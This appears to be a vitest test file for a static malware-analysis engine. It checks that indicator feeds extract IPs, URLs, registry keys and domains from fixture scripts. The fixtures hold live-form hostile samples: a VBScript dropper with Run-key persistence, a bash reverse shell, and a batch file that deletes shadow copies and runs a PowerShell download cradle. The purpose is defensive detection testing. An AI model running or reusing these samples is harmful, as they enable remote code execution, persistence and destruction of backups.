import { afterAll, beforeAll, expect, test } from "vitest";
import { createStaticEngine } from "../engine/index.ts";
import { openHarness, type Harness } from "../testing/harness.ts";
import { sharedInspector } from "../testing/shared-inspector.ts";

// What the feeds make of analyses that the engine makes in earnest.

let harness: Harness;
beforeAll(async () => {
  harness = await openHarness({
    engine: createStaticEngine({ inspector: sharedInspector(), clock: () => harness.now }),
  });
  for (const [name, text] of Object.entries(SCRIPTS)) await harness.analysed(text, { sample_filename: name });
});
afterAll(async () => {
  await harness.close();
});

const SCRIPTS = {
  "drop.vbs": [
    'Set web = CreateObject("MSXML2.XMLHTTP")',
    'web.Open "GET", "http://c2.evil.test:8080/pay.exe", False',
    "web.Send",
    'Set out = CreateObject("ADODB.Stream")',
    "out.Write web.responseBody",
    'out.SaveToFile "C:\\Users\\Public\\pay.exe", 2',
    'CreateObject("WScript.Shell").Run "C:\\Users\\Public\\pay.exe", 0',
    'CreateObject("WScript.Shell").RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd", "pay.exe"',
  ].join("\n"),
  "shell.sh": "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
  "ransom.bat": [
    "@echo off",
    "schtasks /create /tn Upd /tr C:\\Users\\Public\\a.exe /sc onlogon",
    "vssadmin delete shadows /all /quiet",
    `powershell -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://pay.ddns.test/a.ps1')"`,
  ].join("\n"),
};

async function items(path: string): Promise<Record<string, unknown>[]> {
  return (await harness.get(`/api/v2/${path}`)).json().data.items;
}

test("the address of a reverse shell is in the feed of addresses, with its port", async () => {
  expect(await items("iocs/feeds/ips")).toMatchObject([
    { ip: "198.51.100.7", port: 4444, ioc: "script-reverse-shell", severity: 90, confidence: 95 },
  ]);
});

test("URLs in command lines are what their indicators are about", async () => {
  const urls = await items("iocs/feeds/urls?severity=70&confidence=70");
  expect(urls.map(({ url, ioc }) => [url, ioc])).toContainEqual([
    "http://pay.ddns.test/a.ps1",
    "script-download-cradle",
  ]);
});

test("a script is the artifact of its indicators, and its name the path", async () => {
  expect(await items("iocs/feeds/artifacts?ioc=script-host-dropper")).toMatchObject([{ aid: 1, path: "drop.vbs" }]);
  expect(await items("iocs/feeds/paths?ioc=script-host-dropper")).toMatchObject([{ path: "drop.vbs" }]);
});

test("a run key is in the feed of registry keys", async () => {
  const keys = new Set((await items("iocs/feeds/registry_keys")).map((item) => item["registry_key"]));
  expect([...keys]).toEqual(["HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd"]);
});

test("nothing was run, so there are no streams, and domains are references", async () => {
  expect(await items("iocs/feeds/network_streams?severity=0&confidence=0")).toEqual([]);
  const relations = (await items("samples/feeds/domains")).map(({ relation }) => relation);
  expect(relations.length).toBeGreaterThan(0);
  expect(new Set(relations)).toEqual(new Set(["reference"]));
});

test.each([
  ["autorun-registry", ["HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd"]],
  ["scheduled-tasks", ["schtasks /create /tn Upd /tr C:\\Users\\Public\\a.exe /sc onlogon"]],
  ["downloaded-pe-dns", ["c2.evil.test"]],
  ["dynamic-dns", ["pay.ddns.test"]],
  ["ransomware-dns", ["pay.ddns.test"]],
  ["banking-dns", []],
  ["stolen-cert-dns", []],
])("the curated feed %s holds what the scripts give away", async (feed, expected) => {
  const lines = (await harness.get(`/api/v3/feeds/${feed}.txt`)).body.split("\n").filter((line) => line !== "");
  expect(lines).toEqual(expected);
});
